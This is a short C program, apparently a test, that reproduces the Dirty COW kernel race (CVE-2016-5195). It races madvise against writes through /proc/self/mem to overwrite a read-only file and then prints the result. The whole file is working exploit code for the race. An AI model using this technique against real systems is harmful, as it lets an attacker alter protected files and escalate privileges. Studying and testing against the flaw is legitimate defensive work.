// Writes to a private mapping of a read-only file through /proc/self/mem while it is thrown away
// (Dirty COW, CVE-2016-5195).
#include "call.h"
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>

static void *map;
static volatile int done;

static void *throw_away(void *unused) {
    while (!done) madvise(map, 4096, MADV_DONTNEED);
    return unused;
}

int main(void) {
    int file = open("/project/file", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_t thread;
    pthread_create(&thread, NULL, throw_away, NULL);
    for (int i = 0; i < 20000; i++) pwrite(memory, "CHANGED", 7, (off_t)map);
    done = 1;
    pthread_join(thread, NULL);
    char now[9] = {0};
    pread(file, now, 8, 0);
    printf("file: %s", now);
}
